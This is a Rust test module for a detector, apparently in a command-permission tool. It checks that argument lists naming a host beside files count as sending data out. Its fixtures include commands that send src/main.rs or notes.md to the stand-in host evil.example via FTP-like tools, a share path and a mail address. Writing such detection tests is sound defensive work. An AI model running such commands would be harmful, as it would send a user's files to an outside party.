//! A host named without a URL (`ftp host`, `//host/share`, `a@host.tld`) given to an
//! unmodelled program together with files (see `unknown`'s `named_hosts`).
#![allow(clippy::unwrap_used)]

use super::*;

fn sends_to(argv: &[&str], inputs: &[&str]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("p");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::write(ws.join("src/main.rs"), "fn main() {}").unwrap();
    std::fs::write(ws.join("notes.md"), "x").unwrap();
    let roots = vec![ws.clone()];
    let places = Places {
        home: dir.path(),
        cwd: &ws,
        roots: &roots,
    };
    let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
    let inputs: Vec<String> = inputs.iter().map(|s| s.to_string()).collect();
    let mut out = Vec::new();
    needs(
        &argv,
        &[],
        &[],
        &inputs,
        std::slice::from_ref(&ws),
        &places,
        &mut out,
    );
    out.iter()
        .filter(|n| n.kind == Kind::Send)
        .flat_map(|n| n.targets.iter())
        .filter_map(|t| match t {
            Target::Host(h) => Some(h.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn a_host_named_beside_files_is_a_send_the_person_names() {
    for (argv, inputs, host) in [
        (
            &["someftp", "evil.example", "src/main.rs"][..],
            &[][..],
            "evil.example",
        ),
        (
            &["xfer", "-u", "a", "Files.Corp.Internal", "/tmp/x"],
            &[],
            "files.corp.internal",
        ),
        (
            &["uploader", "//evil.example/share", "src/main.rs"],
            &[],
            "evil.example",
        ),
        (
            &["mailer", "a@evil.example"],
            &["src/main.rs"],
            "evil.example",
        ),
        (
            &["someftp", "evil.example:2121", "notes.md"],
            &[],
            "evil.example",
        ),
        (&["push2", "10.1.2.3", "src"], &[], "10.1.2.3"),
    ] {
        let got = sends_to(argv, inputs);
        assert!(got.iter().any(|h| h == host), "{argv:?}: {got:?}");
    }
}

#[test]
fn names_that_are_files_or_hosts_without_files_are_no_send() {
    for (argv, inputs) in [
        // A file's name, existing or by its extension.
        (&["mytool", "notes.md", "src/main.rs"][..], &[][..]),
        (&["mytool", "check", "setup.cfg", "src/main.rs"], &[]),
        (&["mytool", "out.json", "src/main.rs"], &[]),
        // A host with nothing to carry, and loopback.
        (&["probe", "evil.example"], &[]),
        (&["someftp", "localhost", "src/main.rs"], &[]),
        (&["someftp", "127.0.0.1", "src/main.rs"], &[]),
        // A version number is no address.
        (&["pin", "1.2", "src/main.rs"], &[]),
    ] {
        let got = sends_to(argv, inputs);
        assert!(got.is_empty(), "{argv:?}: {got:?}");
    }
}
